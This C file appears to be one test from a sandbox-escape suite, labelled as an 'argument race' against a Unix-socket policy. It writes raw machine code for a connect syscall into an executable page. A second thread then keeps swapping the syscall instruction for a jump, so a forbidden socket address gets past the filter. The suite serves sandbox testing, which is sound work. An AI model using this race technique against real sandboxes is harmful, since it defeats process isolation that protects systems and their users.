// escape: another thread puts other code where the connect comes from
// group: argument races
// policy: unix
// attempts: 2000
#include "unix.h"

// connect(2) with the arguments of a call of this function; what stands behind it asks for the other name.
static struct name good, bad;
static volatile uint16_t* instruction;
static uint16_t original, jump;

static void* rewrite(void* unused) {
  unsigned seed = 1;
  for (;;) {
    *instruction = jump;
    moment(&seed);
    *instruction = original;
    for (int i = 0; i < 20; i++) moment(&seed);
  }
  return unused;
}

static void attack(void) {
  static const unsigned char kCode[] = {
      0xb8, 42,   0,    0, 0,  // mov $SYS_connect, %eax
      0x0f, 0x05,              // syscall, or jmp to the next but one
      0xc3,                    // ret
      0x4c, 0x89, 0xc6,        // mov %r8, %rsi
      0xb8, 42,   0,    0, 0,  // mov $SYS_connect, %eax
      0x0f, 0x05,              // syscall
      0xc3,                    // ret
  };
  unsigned char* code =
      mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (code == MAP_FAILED) broken("mmap");
  // So that the instruction does not cross a line of the cache.
  memcpy(code + 57, kCode, sizeof kCode);
  instruction = (volatile uint16_t*)(void*)(code + 57 + 5);
  original = 0x050f;
  jump = 0x01eb;
  serve_all(SOCK_STREAM);
  good = named(GOOD_SOCKET);
  bad = named(evil());
  long (*call)(int, void*, socklen_t, void*, void*) =
      (long (*)(int, void*, socklen_t, void*, void*))(code + 57);
  // The fifth argument is in %r8.
  thread(rewrite, NULL);
  while (more()) {
    if (in_child()) {
      thread(rewrite, NULL);
      for (int i = 0; i < 20; i++) {
        const int fd = unix_socket(SOCK_STREAM);
        call(fd, &good.address, good.length, NULL, &bad.address);
        arrived();
        close(fd);
      }
      _exit(0);
    }
    arrived();
  }
}
